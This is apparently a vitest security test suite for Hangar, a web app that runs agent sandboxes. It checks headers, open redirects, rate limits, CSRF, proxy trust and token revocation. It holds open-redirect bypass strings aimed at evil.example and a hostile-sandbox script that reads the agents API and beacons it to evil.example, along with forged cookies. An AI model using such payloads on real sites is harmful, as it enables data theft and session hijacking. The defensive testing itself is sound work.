import fs from "node:fs";
import http from "node:http";
import net from "node:net";

import { afterAll, beforeAll, describe, expect, inject, it } from "vitest";

import { AGENTS, api, createAgent } from "../support/api";
import { replaceOpencodeServer } from "../support/hostile-opencode";
import { startServer, type TestServer } from "../support/server";
import { upgradeStatus, wsTerminal } from "../support/terminal";

/*
 * The web app as a stranger, a brute-forcer and a hostile sandbox meet it: real HTTP clients and raw
 * sockets against a real Hangar. Each test checks what reached the attacker (headers, redirects,
 * cookies, bytes on the socket), not only a status code. Rate-limit tests connect from their own
 * loopback addresses (127.0.0.x) so the shared server's other clients keep their budget.
 */

const SESSIONS = "/api/v1/managed_agents/sessions";
const base = () => inject("baseUrl");
const port = () => Number(new URL(base()).port);

type Answer = { status: number; headers: http.IncomingHttpHeaders; body: string };

/** One HTTP request with node:http (so the source address can be chosen), body read in full. */
function request(
  url: string,
  opts: { method?: string; headers?: Record<string, string>; body?: string; from?: string } = {},
): Promise<Answer> {
  return new Promise((resolve, reject) => {
    const req = http.request(
      url,
      { method: opts.method ?? "GET", headers: opts.headers, localAddress: opts.from, agent: false },
      (res) => {
        let body = "";
        res.setEncoding("utf8");
        res.on("data", (chunk: string) => (body += chunk));
        res.on("end", () => resolve({ status: res.statusCode ?? 0, headers: res.headers, body }));
      },
    );
    req.on("error", reject);
    req.end(opts.body);
  });
}

function login(url: string, key: string, opts: { from?: string; headers?: Record<string, string> } = {}) {
  return request(`${url}/api/v1/auth/login`, {
    method: "POST",
    from: opts.from,
    headers: { "content-type": "application/json", origin: url, ...opts.headers },
    body: JSON.stringify({ master_key: key }),
  });
}

/** Writes raw bytes and collects everything until the server closes (or `ms` pass). */
function rawExchange(text: string, ms = 3000): Promise<{ reply: string; closed: boolean; elapsed: number }> {
  return new Promise((resolve) => {
    const started = Date.now();
    const socket = net.connect(port(), "127.0.0.1", () => socket.write(text));
    let reply = "";
    const timer = setTimeout(() => {
      socket.destroy();
      resolve({ reply, closed: false, elapsed: Date.now() - started });
    }, ms);
    socket.on("data", (chunk) => (reply += chunk.toString("utf8")));
    socket.on("error", () => undefined);
    socket.on("close", () => {
      clearTimeout(timer);
      resolve({ reply, closed: true, elapsed: Date.now() - started });
    });
  });
}

function expectAppHeaders(headers: http.IncomingHttpHeaders, where: string) {
  const csp = String(headers["content-security-policy"] ?? "");
  for (const directive of [
    "default-src 'self'",
    "object-src 'none'",
    "base-uri 'self'",
    "form-action 'self'",
    "frame-ancestors 'none'",
  ]) {
    expect(csp, where).toContain(directive);
  }
  expect(csp, where).not.toMatch(/script-src[^;]*'unsafe-inline'/);
  expect(headers["x-frame-options"], where).toBe("DENY");
  expect(headers["referrer-policy"], where).toBe("same-origin");
  expect(headers["x-content-type-options"], where).toBe("nosniff");
}

async function readySession(harness: string) {
  const agent = await createAgent({ harness_id: harness, model: "hangar-test-model" });
  const created = await api("POST", `${AGENTS}/${agent.id}/session`, { body: {} });
  expect(created.status, created.text).toBe(201);
  return waitReady(created.body.id);
}

async function waitReady(id: string) {
  const deadline = Date.now() + 90_000;
  for (;;) {
    const res = await api("GET", `${SESSIONS}/${id}`);
    if (res.body.status === "ready") return res.body;
    if (res.body.status === "failed" || Date.now() > deadline) throw new Error(JSON.stringify(res.body));
    await new Promise((r) => setTimeout(r, 100));
  }
}

describe("every answer of the app", () => {
  it("carries the CSP (nonce scripts, no framing), X-Frame-Options, Referrer-Policy, nosniff; no HSTS on HTTP", async () => {
    const page = await request(`${base()}/login`);
    expect(page.status).toBe(200);
    const nonce = /'nonce-([A-Za-z0-9+/=]+)'/.exec(String(page.headers["content-security-policy"]))?.[1];
    expect(nonce).toBeTruthy();
    // Every script of the page carries this response's nonce: none runs without it.
    const scripts = page.body.match(/<script\b[^>]*>/g) ?? [];
    expect(scripts.length).toBeGreaterThan(3);
    for (const tag of scripts) expect(tag).toContain(`nonce="${nonce}"`);
    const again = await request(`${base()}/login`);
    expect(String(again.headers["content-security-policy"])).not.toContain(nonce);
    const asset = /src="(\/_next\/static\/[^"]+\.js)"/.exec(page.body)?.[1];
    expect(asset).toBeTruthy();

    const paths = [
      "/login",
      "/agents",
      "/docs/api",
      "/no-such-page",
      asset!,
      "/api/v1/health",
      "/api/v1/openapi.json",
      AGENTS,
      "/sessions/%E0%A4%A",
    ];
    for (const path of paths) {
      // A client's own claim of TLS counts for nothing without a trusted proxy.
      const res = await request(`${base()}${path}`, { headers: { "x-forwarded-proto": "https" } });
      expectAppHeaders(res.headers, path);
      expect(res.headers["strict-transport-security"], path).toBeUndefined();
    }
    // A login claiming https gets the plain-HTTP cookie: no Secure flag a plain page could not use.
    const res = await login(base(), inject("masterKey"), {
      from: "127.0.0.3",
      headers: { "x-forwarded-proto": "https" },
    });
    expect(res.status).toBe(200);
    expect(String(res.headers["set-cookie"])).toMatch(
      /^hangar_session=[^;]+; Path=\/; HttpOnly; SameSite=Lax; Expires=/,
    );
  });
});

describe("after login, `next`", () => {
  const offSite = [
    "/%5Cevil.example",
    "/%5cevil.example",
    "/\\evil.example",
    "//evil.example",
    "\\\\evil.example",
    "\\evil.example",
    "/%2f%2fevil.example",
    "/%2F/evil.example",
    "/.//evil.example",
    "/\t/evil.example",
    "/\n/evil.example",
    "/%09/evil.example",
    " //evil.example",
    "javascript:alert(document.domain)//evil.example",
    "https://evil.example",
    "http:evil.example",
  ];
  const loginUrl = (next: string) => `${base()}/login?next=${encodeURIComponent(next)}`;

  it("never leads off-site: not from the login form, not from the redirect of a logged-in browser", async () => {
    const cookie = String(
      (await login(base(), inject("masterKey"), { from: "127.0.0.3" })).headers["set-cookie"],
    ).split(";")[0]!;
    for (const next of offSite) {
      // Logged out: the page hands the form its target (its only `next` prop): the agents page.
      const form = await request(loginUrl(next));
      expect(form.status, next).toBe(200);
      const targets = [...form.body.matchAll(/\\"next\\":\\"([^\\]*)\\"/g)].map((m) => m[1]);
      expect(targets, next).toEqual(["/agents"]);
      // Logged in: the page redirects at once; the Location stays on Hangar's origin.
      const bounce = await request(loginUrl(next), { headers: { cookie } });
      expect([303, 307, 308], next).toContain(bounce.status);
      const location = new URL(String(bounce.headers.location), base());
      expect(location.origin, next).toBe(new URL(base()).origin);
      expect(location.pathname, next).toBe("/agents");
    }
    const form = await request(loginUrl("/skills?x=1"));
    expect([...form.body.matchAll(/\\"next\\":\\"([^\\]*)\\"/g)].map((m) => m[1])).toEqual(["/skills?x=1"]);
    const own = await request(loginUrl("/skills?x=1"), { headers: { cookie } });
    expect(new URL(String(own.headers.location), base()).href).toBe(`${base()}/skills?x=1`);
  });
});

describe("malformed percent-encoding", () => {
  const badPaths = [
    "/sessions/%E0%A4%A",
    "/agents/%ZZ",
    "/_next/static/%C0%AF",
    "/api/v1/managed_agents/agents/%E0%A4%A",
    `${SESSIONS}/%E0%A4%A/opencode/session`,
    `${SESSIONS}/%E0%A4%A/tty`,
    `${SESSIONS}/%/tty`,
  ];

  it("is answered 400 (JSON envelope) at once, for requests and WebSocket upgrades; the server stays up", async () => {
    for (const path of badPaths) {
      const plain = await rawExchange(`GET ${path} HTTP/1.1\r\nHost: 127.0.0.1\r\nConnection: close\r\n\r\n`);
      expect(plain.reply, path).toMatch(/^HTTP\/1\.1 400 Bad Request\r\n/);
      const upgrade = await rawExchange(
        `GET ${path} HTTP/1.1\r\nHost: 127.0.0.1\r\nConnection: Upgrade\r\nUpgrade: websocket\r\n` +
          `Sec-WebSocket-Version: 13\r\nSec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ==\r\n` +
          `Authorization: Bearer ${inject("masterKey")}\r\n\r\n`,
      );
      // A proper answer, then the server closes the socket itself (nothing left hanging).
      expect(upgrade.reply, path).toMatch(/^HTTP\/1\.1 400 Bad Request\r\n/);
      expect(upgrade.closed, path).toBe(true);
      expect(upgrade.elapsed, path).toBeLessThan(2000);
      for (const { reply } of [plain, upgrade]) {
        const body = JSON.parse(reply.slice(reply.indexOf("\r\n\r\n") + 4));
        expect(body.error.code).toBe("bad_request");
        expect(reply).not.toMatch(/URIError|\.ts:\d+|at \w+ \(/);
      }
    }
    expect((await api("GET", "/api/v1/health")).status).toBe(200);
    expect(fs.readFileSync(inject("logFile"), "utf8")).not.toContain("URIError");
  });
});

describe("login attempts", () => {
  it("are limited per address as they start: 30 parallel guesses mostly get 429, then the right key waits too", async () => {
    const from = "127.0.0.7";
    // Changing X-Forwarded-For does not make a new client: without a trusted proxy it is ignored.
    const guesses = await Promise.all(
      Array.from({ length: 30 }, (_, i) =>
        login(base(), `wrong-key-${i}-xxxxxxxx`, { from, headers: { "x-forwarded-for": `198.51.100.${i}` } }),
      ),
    );
    const statuses = guesses.map((g) => g.status);
    expect(statuses.filter((s) => s === 401)).toHaveLength(10);
    expect(statuses.filter((s) => s === 429)).toHaveLength(20);
    for (const g of guesses.filter((r) => r.status === 429)) {
      expect(JSON.parse(g.body).error.code).toBe("too_many_requests");
      expect(Number(g.headers["retry-after"])).toBeGreaterThan(0);
      expect(g.headers["set-cookie"]).toBeUndefined();
    }
    const right = await login(base(), inject("masterKey"), { from });
    expect(right.status).toBe(429);
    expect(right.headers["set-cookie"]).toBeUndefined();
    const wait = Number(right.headers["retry-after"]);
    expect(wait).toBeGreaterThan(0);
    expect(wait).toBeLessThanOrEqual(6);
    // Another address is not affected.
    expect((await login(base(), inject("masterKey"), { from: "127.0.0.8" })).status).toBe(200);
    await new Promise((r) => setTimeout(r, wait * 1000 + 200));
    expect((await login(base(), inject("masterKey"), { from })).status).toBe(200);
  }, 30_000);
});

describe("a cookie-carried write", () => {
  it("from another origin is refused, even when the request names that origin as X-Forwarded-Host", async () => {
    const logged = await login(base(), inject("masterKey"), { from: "127.0.0.9" });
    expect(logged.status, logged.body).toBe(200);
    const cookie = String(logged.headers["set-cookie"]).split(";")[0]!;
    const create = (headers: Record<string, string>) =>
      request(`${base()}${AGENTS}`, {
        method: "POST",
        headers: { "content-type": "application/json", cookie, ...headers },
        body: JSON.stringify({ name: `xfh-${Date.now()}`, model: "m/x" }),
      });
    const forged = await create({ origin: "http://evil.example", "x-forwarded-host": "evil.example" });
    expect(forged.status, forged.body).toBe(403);
    // The control: the same cookie from Hangar's own origin writes.
    expect((await create({ origin: base() })).status).toBe(201);
  });
});

describe("behind a trusted proxy (HANGAR_TRUST_PROXY=1)", () => {
  let server: TestServer;
  beforeAll(async () => {
    server = await startServer({ env: { HANGAR_TRUST_PROXY: "1" } });
  }, 90_000);
  afterAll(async () => {
    await server?.stop();
  });

  it("the Origin check compares with the host the proxy names (its last X-Forwarded-Host entry)", async () => {
    const logged = await login(server.url, server.masterKey, { headers: { "x-forwarded-proto": "https" } });
    const cookie = String(logged.headers["set-cookie"]).split(";")[0]!;
    const create = (headers: Record<string, string>) =>
      request(`${server.url}${AGENTS}`, {
        method: "POST",
        headers: { "content-type": "application/json", cookie, ...headers },
        body: JSON.stringify({ name: `xfh-${Date.now()}`, model: "m/x" }),
      });
    const proxied = { origin: "https://hangar.example", "x-forwarded-proto": "https" };
    expect((await create({ ...proxied, "x-forwarded-host": "evil.example, hangar.example" })).status).toBe(
      201,
    );
    expect((await create({ ...proxied, "x-forwarded-host": "hangar.example, evil.example" })).status).toBe(
      403,
    );
  });

  it("HSTS only when the proxy says https (its own, last entry)", async () => {
    const hsts = async (proto?: string) =>
      (await request(`${server.url}/login`, { headers: proto ? { "x-forwarded-proto": proto } : {} }))
        .headers["strict-transport-security"];
    expect(await hsts("https")).toBe("max-age=31536000; includeSubDomains");
    expect(await hsts("http")).toBeUndefined();
    expect(await hsts("https, http")).toBeUndefined();
    expect(await hsts()).toBeUndefined();
    const api = await request(`${server.url}/api/v1/health`, { headers: { "x-forwarded-proto": "https" } });
    expect(api.headers["strict-transport-security"]).toBe("max-age=31536000; includeSubDomains");
  });

  it("over TLS the cookie is __Host-, Secure, Path=/, no Domain; each transport reads only its own; logout clears both", async () => {
    const tls = { "x-forwarded-proto": "https" };
    const res = await login(server.url, server.masterKey, { headers: tls });
    expect(res.status).toBe(200);
    const setCookie = String(res.headers["set-cookie"]);
    expect(setCookie).toMatch(
      /^__Host-hangar_session=[^;]+; Path=\/; HttpOnly; SameSite=Lax; Secure; Expires=/,
    );
    expect(setCookie).not.toMatch(/domain=/i);
    const value = setCookie.split(";")[0]!.split("=").slice(1).join("=");
    const who = (cookie: string, headers: Record<string, string> = {}) =>
      request(`${server.url}/api/v1/auth/session`, { headers: { cookie, ...headers } });
    expect(JSON.parse((await who(`__Host-hangar_session=${value}`, tls)).body).kind).toBe("browser");
    // The plain name over TLS, or the __Host- name over plain HTTP: not a login.
    expect((await who(`hangar_session=${value}`, tls)).status).toBe(401);
    expect((await who(`__Host-hangar_session=${value}`)).status).toBe(401);
    // Pages read the same way.
    const page = await request(`${server.url}/agents`, {
      headers: { cookie: `__Host-hangar_session=${value}`, ...tls },
    });
    expect(page.status).toBe(200);
    const plainPage = await request(`${server.url}/agents`, {
      headers: { cookie: `__Host-hangar_session=${value}` },
    });
    expect(plainPage.status).toBe(307);
    const out = await request(`${server.url}/api/v1/auth/logout`, {
      method: "POST",
      headers: { cookie: `__Host-hangar_session=${value}`, origin: server.url, ...tls },
    });
    expect(out.status).toBe(204);
    const cleared = out.headers["set-cookie"] ?? [];
    expect(cleared).toHaveLength(2);
    expect(cleared[0]).toMatch(/^__Host-hangar_session=; Path=\/; HttpOnly; SameSite=Lax; Secure; Max-Age=0/);
    expect(cleared[1]).toMatch(/^hangar_session=; .*Max-Age=0/);
    expect((await who(`__Host-hangar_session=${value}`, tls)).status).toBe(401);
  });

  it("the limit is per client as the proxy names it (last X-Forwarded-For entry; a spoofed first one changes nothing)", async () => {
    const as = (forwardedFor: string, key = "wrong-key-xxxxxxxxxx") =>
      login(server.url, key, { headers: { "x-forwarded-for": forwardedFor } });
    const first = await Promise.all(Array.from({ length: 12 }, () => as("203.0.113.9")));
    expect(first.filter((r) => r.status === 429)).toHaveLength(2);
    expect((await as("9.9.9.9, 203.0.113.9", server.masterKey)).status).toBe(429);
    expect((await as("203.0.113.9, 203.0.113.10", server.masterKey)).status).toBe(200);
  });
});

describe("terminal tokens", () => {
  it("are revoked by the revoke call (live token connections close) and by a restart", async () => {
    const session = await readySession("codex");
    const url = (token: string) =>
      `${base().replace(/^http/, "ws")}${SESSIONS}/${session.id}/tty?token=${token}`;
    const old = session.tty_token as string;
    expect(await upgradeStatus(url(old))).toBe(101);
    const live = await wsTerminal(url(old));
    await live.waitFor("OpenAI Codex", 20_000);

    // The call needs Hangar's credentials; a cookie needs Hangar's own origin.
    const revokePath = `${SESSIONS}/${session.id}/tty_token/revoke`;
    expect((await api("POST", revokePath, { key: null })).status).toBe(401);
    expect((await api("POST", revokePath, { key: old })).status).toBe(401);
    expect((await api("POST", `${SESSIONS}/sess_none/tty_token/revoke`)).status).toBe(404);
    const revoked = await api("POST", revokePath);
    expect(revoked.status).toBe(200);
    const fresh = revoked.body.tty_token as string;
    expect(fresh).toMatch(/^ttk_/);
    expect(fresh).not.toBe(old);

    expect(await upgradeStatus(url(old))).toBe(401);
    expect(
      await upgradeStatus(`${base().replace(/^http/, "ws")}${SESSIONS}/${session.id}/tty`, {
        authorization: `Bearer ${old}`,
      }),
    ).toBe(401);
    const deadline = Date.now() + 5000;
    while (!live.closed() && Date.now() < deadline) await new Promise((r) => setTimeout(r, 25));
    expect(live.closed()).toMatchObject({ code: 4401 });
    expect(await upgradeStatus(url(fresh))).toBe(101);

    // A restart ends the tokens of the sandbox before it.
    const before = (await api("GET", `${SESSIONS}/${session.id}`)).body.tty_token as string;
    expect((await api("POST", `${SESSIONS}/${session.id}/restart`, { body: {} })).status).toBe(200);
    const after = await waitReady(session.id);
    expect(await upgradeStatus(url(before))).toBe(401);
    expect(await upgradeStatus(url(after.tty_token))).toBe(101);
    await api("DELETE", `${SESSIONS}/${session.id}`);
    expect(await upgradeStatus(url(after.tty_token))).not.toBe(101);
  }, 180_000);

  it("the revoke call is in the OpenAPI document", async () => {
    const doc = (await api("GET", "/api/v1/openapi.json")).body;
    expect(doc.paths[`${SESSIONS}/{id}/tty_token/revoke`].post.operationId).toBe("revokeTtyToken");
  });
});

describe("a hostile opencode server behind the proxy", () => {
  // What the sandbox answers, by path: each tries to act in Hangar's origin.
  const RESPOND = `(url) => {
    const origin = {
      "set-cookie": ["planted=1; Path=/", "hangar_session=forged; Path=/"],
      "clear-site-data": '"cookies", "storage"',
      refresh: "0; url=https://evil.example/",
      link: "</evil.js>; rel=preload; as=script",
      "service-worker-allowed": "/",
      "access-control-allow-origin": "https://evil.example",
      "access-control-allow-credentials": "true",
      "content-security-policy": "script-src * 'unsafe-inline'",
      "cache-control": "public, max-age=31536000",
      "x-hostile": "1",
    };
    const html = "<script>fetch('/api/v1/managed_agents/agents').then((r) => r.text()).then((t) => navigator.sendBeacon('https://evil.example/', t))</script>";
    if (url === "/evil.svg") return { headers: { ...origin, "content-type": "image/svg+xml" }, body: "<svg xmlns='http://www.w3.org/2000/svg'><script>alert(1)</script></svg>" };
    if (url === "/notype") return { headers: origin, body: html };
    if (url === "/json") return { headers: { ...origin, "content-type": "application/json" }, body: html };
    if (url === "/away") return { status: 302, headers: { ...origin, location: "https://evil.example/" }, body: "" };
    return { headers: { ...origin, "content-type": "text/html; charset=utf-8" }, body: html };
  }`;

  it("cannot set cookies or origin state, and serves nothing as an active page of Hangar's origin", async () => {
    const { session } = { session: await readySession("opencode") };
    await replaceOpencodeServer(inject("dataDir"), session.id, RESPOND);
    const cookie = String(
      (await login(base(), inject("masterKey"), { from: "127.0.0.3" })).headers["set-cookie"],
    ).split(";")[0]!;
    for (const path of ["/evil", "/evil.svg", "/notype", "/json", "/away"]) {
      // A logged-in browser's top-level navigation: the cookie, no Origin.
      const res = await request(`${base()}${SESSIONS}/${session.id}/opencode${path}`, {
        headers: { cookie, accept: "text/html" },
      });
      expect(res.headers["x-hostile"], path).toBeUndefined(); // the allow-list keeps unknown headers out
      for (const name of [
        "set-cookie",
        "clear-site-data",
        "refresh",
        "link",
        "service-worker-allowed",
        "access-control-allow-origin",
        "access-control-allow-credentials",
        "location",
      ]) {
        expect(res.headers[name], `${path} ${name}`).toBeUndefined();
      }
      const csp = String(res.headers["content-security-policy"]);
      expect(csp, path).toMatch(/^sandbox;/);
      expect(csp, path).toContain("default-src 'none'");
      expect(csp, path).not.toContain("unsafe-inline");
      expect(res.headers["x-content-type-options"], path).toBe("nosniff");
      expect(res.headers["cross-origin-resource-policy"], path).toBe("same-origin");
      expect(res.headers["cache-control"], path).toBe("no-store");
      if (path !== "/json" && path !== "/away") {
        expect(res.headers["content-disposition"], path).toBe("attachment");
      }
    }
    // The sandbox's answer did reach the proxy (the swap worked), it only lost its powers.
    const evil = await request(`${base()}${SESSIONS}/${session.id}/opencode/evil`, { headers: { cookie } });
    expect(evil.body).toContain("sendBeacon");
    // The forged cookie did not replace the login: it still works.
    expect((await api("GET", "/api/v1/auth/session", { key: null, headers: { cookie } })).body.kind).toBe(
      "browser",
    );
    await api("DELETE", `${SESSIONS}/${session.id}`);
  }, 120_000);
});
